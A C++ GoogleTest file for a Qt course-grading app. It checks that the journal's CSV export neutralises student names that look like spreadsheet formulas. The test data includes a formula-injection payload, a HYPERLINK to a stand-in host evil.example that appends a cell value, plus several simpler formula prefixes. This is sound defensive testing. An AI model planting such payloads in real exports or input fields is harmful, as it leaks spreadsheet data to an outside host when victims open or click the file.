// SPDX-License-Identifier: GPL-3.0-or-later
// The journal window's "Сохранить CSV..." after students registered under names a spreadsheet
// would take for formulas: each name is saved as text, the grades as numbers.

#include "gui/windows/group_journal_window.h"
#include "support/course_driver.h"
#include "support/fixed_save_chooser.h"
#include "support/test_file_builder.h"

#include <QDir>
#include <QPushButton>
#include <gtest/gtest.h>

using namespace velmora;
using namespace velmora::test;
using namespace Qt::StringLiterals;

namespace {

TEST(JournalCsv, SavesNamesThatLookLikeFormulasAsText) {
    CourseDriver course;
    writeTestFile(u"test1"_s, numberedQuestions({1}), u"1"_s);
    course.start();
    const QStringList names{u"=HYPERLINK(\"http://evil.example/?x=\"&A3;\"Нажмите\")"_s, u"=1+1"_s,
                            u"+1+1"_s, u"-2+3"_s, u"@SUM(1)"_s};
    for (const QString& name : names) {
        course.registerStudent(name, u"pw"_s);
        course.signIn(name, u"pw"_s);
        course.startTest(1);
        course.answer(1);
        course.leaveProgress();
        course.choose("NaFormuAvtorizazii");
    }
    course.signIn(u"admin"_s, u"admin"_s);
    course.choose("njournal");
    auto* journal = findIn<GroupJournalWindow>(course.window(), "JournalForm");
    ASSERT_NE(journal, nullptr);
    journal->setSaveChooser(
        std::make_unique<FixedSaveChooser>(QDir::current().filePath(u"journal.csv"_s)));
    course.forgetBoxes();
    findIn<QPushButton>(*journal, "saveCsv")->click();
    EXPECT_TRUE(course.boxes().isEmpty()) << course.boxTexts().join(u'\n').toStdString();

    const QString grades = u";5;5,00\r\n"_s;
    EXPECT_EQ(course.folder().read(u"journal.csv"_s).toStdString(),
              "\xEF\xBB\xBF" +
                  (u"Студент;Тест 1;Средний балл\r\n"_s +
                   u"\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A3;\"\"Нажмите\"\")\""_s +
                   grades + u"'=1+1"_s + grades + u"'+1+1"_s + grades + u"'-2+3"_s + grades +
                   u"'@SUM(1)"_s + grades)
                      .toStdString());
}

} // namespace
